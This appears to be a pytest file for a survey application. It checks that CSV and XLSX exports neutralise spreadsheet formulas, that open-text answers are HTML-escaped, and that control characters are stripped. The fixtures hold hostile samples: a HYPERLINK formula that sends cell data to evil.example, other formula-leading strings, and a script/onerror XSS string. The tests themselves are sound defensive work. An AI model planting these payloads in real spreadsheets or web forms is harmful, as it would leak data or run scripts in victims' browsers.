"""Exports stay inert in spreadsheets, and open text stays text on the problem page and report."""

import csv
import io

import openpyxl
import pytest
from evaluate_helpers import Maker, elder

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"点我")', "+1", "-1", "@SUM(A1:A9)"]
SCRIPT = '<script>alert("x")</script><img src=x onerror=alert(1)>'


@pytest.fixture
def hostile(db):
    """Responses whose open text would run as a formula or as HTML; one tab-led answer stored directly."""
    make = Maker(db)
    ids = [make.add(elder(suggestion=text)) for text in HOSTILE]
    ids.append(make.add(elder(suggestion=SCRIPT, services=["hotline"], hotline_unanswered="1")))
    # The respondent pages strip whitespace; an older import could still hold a leading tab.
    tabbed = make.add(elder())
    db.execute("insert into answers (response_id, question_id, value) values (?, 'suggestion', ?)",
                  [tabbed, "\tx"])
    db.conn.commit()
    return ids


def suggestions_from_csv(body):
    """The suggestion column of an exported CSV."""
    rows = list(csv.DictReader(io.StringIO(body.lstrip("\ufeff"))))
    return [row["suggestion"] for row in rows if row["suggestion"]]


def test_responses_csv_neutralises_formula_cells(hostile, login):
    response = login("evaluator").get("/e/default/evaluate/elder-satisfaction/export/responses.csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    cells = suggestions_from_csv(response.get_data(as_text=True))
    expected = ["'" + text for text in HOSTILE] + [SCRIPT, "'\tx"]
    assert cells == expected
    assert all(not cell.startswith(("=", "+", "-", "@", "\t")) for cell in cells)


def test_responses_xlsx_holds_only_strings_never_formulas(hostile, login):
    response = login("evaluator").get("/e/default/evaluate/elder-satisfaction/export/responses.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    header = [cell.value for cell in sheet[1]]
    column = header.index("suggestion")
    cells = [row[column] for row in sheet.iter_rows(min_row=2) if row[column].value]
    assert [c.value for c in cells] == ["'" + text for text in HOSTILE] + [SCRIPT, "'\tx"]
    assert all(c.data_type == "s" for c in cells)
    assert "overall_label" in header  # code and label columns


def test_measures_export_has_n_and_interval(hostile, login):
    """The CSV: Chinese headers, the measure's code kept for machines, rates as fractions."""
    client = login("evaluator")
    body = client.get("/e/default/evaluate/elder-satisfaction/export/measures.csv").get_data(as_text=True)
    rows = {row["指标代码"]: row for row in csv.DictReader(io.StringIO(body.lstrip("\ufeff")))}
    satisfaction = rows["satisfaction_rate"]
    assert (satisfaction["样本量 n"], satisfaction["符合人数"], satisfaction["比率"]) == ("6", "6", "1.0")
    assert satisfaction["95%置信区间上限"] == "1.0"
    assert float(satisfaction["95%置信区间下限"]) == pytest.approx(0.6097, abs=1e-4)
    workbook = openpyxl.load_workbook(io.BytesIO(
        client.get("/e/default/evaluate/elder-satisfaction/export/measures.xlsx").data))
    assert workbook.active["A1"].value == "指标代码"


@pytest.mark.parametrize("path", ["/e/default/evaluate/elder-satisfaction/problems",
                                  "/e/default/evaluate/elder-satisfaction/report"])
def test_html_in_open_text_is_escaped(hostile, login, path):
    page = login("evaluator").get(path)
    assert page.status_code == 200
    assert SCRIPT not in page.text
    assert "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;" in page.text
    assert "1 人回答“是”" in page.text  # the unanswered-hotline count, with that respondent's text


def test_exports_are_audited(hostile, login, db):
    login("evaluator").get("/e/default/evaluate/elder-satisfaction/export/responses.csv").get_data()
    actions = [row[0] for row in db.execute("select action from audit_log")]
    assert "export_responses" in actions


CONTROLLED = ["a\x01b", "\x02=1+1", "x\x00y\x1fz\x7f", "第一行\n第二行"]


@pytest.fixture
def controlled(db):
    """Answers holding control characters, stored directly as an older version let them in."""
    make = Maker(db)
    ids = []
    for text in CONTROLLED:
        response_id = make.add(elder())
        db.execute("insert into answers (response_id, question_id, value) values (?, 'suggestion', ?)",
                   [response_id, text])
        ids.append(response_id)
    db.conn.commit()
    return ids


CLEANED = ["ab", "'=1+1", "xyz", "第一行\n第二行"]


def test_control_characters_never_break_the_xlsx_export(controlled, login):
    """One answer with \\x01 used to turn the responses XLSX into a 500 (IllegalCharacterError)."""
    response = login("evaluator").get("/e/default/evaluate/elder-satisfaction/export/responses.xlsx")
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(response.data)).active
    column = [cell.value for cell in sheet[1]].index("suggestion")
    assert [row[column].value for row in sheet.iter_rows(min_row=2) if row[column].value] == CLEANED


def test_control_characters_are_removed_from_the_csv_export(controlled, login):
    """The CSV export carries no control characters, and a shielded formula is still quoted."""
    response = login("evaluator").get("/e/default/evaluate/elder-satisfaction/export/responses.csv")
    assert response.status_code == 200
    assert suggestions_from_csv(response.get_data(as_text=True)) == CLEANED


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_cli_export_survives_control_characters(controlled, runner, tmp_path, fmt):
    """`flask responses export` used to stop with a traceback on such an answer."""
    output = tmp_path / f"out.{fmt}"
    result = runner.invoke(args=["responses", "export", "elder-satisfaction", "--format", fmt, "-o", str(output)])
    assert result.exit_code == 0, result.output
    if fmt == "xlsx":
        sheet = openpyxl.load_workbook(output).active
        column = [cell.value for cell in sheet[1]].index("suggestion")
        cells = [row[column].value for row in sheet.iter_rows(min_row=2) if row[column].value]
    else:
        cells = suggestions_from_csv(output.read_text(encoding="utf-8"))
    assert cells == CLEANED


def test_roster_export_strips_control_characters(db, login):
    """A roster name with a control character exports cleanly (the writer itself makes cells safe)."""
    from survey.web import links

    site = links.create_site(db, "S1", "站点\x01一", evaluation_id=1)
    db.execute("insert into households (evaluation_id, site_id, household_no, name, created_at)"
               " values (1, ?, '1', ?, '2024-01-01')", [site, "张\x03三"])
    db.conn.commit()
    body = login("admin").get("/e/default/manage/rosters/export.csv").get_data(as_text=True)
    assert "站点一" in body, "the site name, cleaned"
    assert "\x01" not in body and "\x03" not in body


def test_neutralise_is_idempotent_and_keeps_line_breaks():
    """Applying the spreadsheet check twice changes nothing; tabs and newlines inside stay."""
    from scoring.appendix import neutralise

    for text in CONTROLLED + HOSTILE + ["a\tb", "\ud800x"]:
        once = neutralise(text)
        assert neutralise(once) == once
        assert not any(ord(ch) < 32 and ch not in "\t\n\r" for ch in once)
    assert neutralise("\ud800x") == "\ufffdx"


def test_respondent_form_strips_control_characters(client, respondent, db):
    """A pasted control character never reaches the database from the public form."""
    form = respondent("/q/elder-satisfaction")
    from conftest import ELDER_ANSWERS

    form.answer_all(dict(ELDER_ANSWERS, suggestion="报修\x01很慢\x1b"))
    assert form.submit().status_code == 302
    stored = db.execute("select value from answers where question_id = 'suggestion'").fetchall()
    assert stored == [("报修很慢",)]


@pytest.mark.parametrize("text", ["=1+1", "+cmd", "-2", "@SUM(A1)", "\tlead", "\rlead", "a\x01b", "\x01=hidden",
                                  "a\x7fb", "a\x85b", "plain 文字", ""])
def test_the_fast_safety_check_agrees_with_neutralise(text):
    """exports._safe_cell skips neutralise for safe texts only: it always gives neutralise's result."""
    from scoring.appendix import neutralise
    from survey.exports import _safe_cell

    assert _safe_cell(text) == neutralise(text)
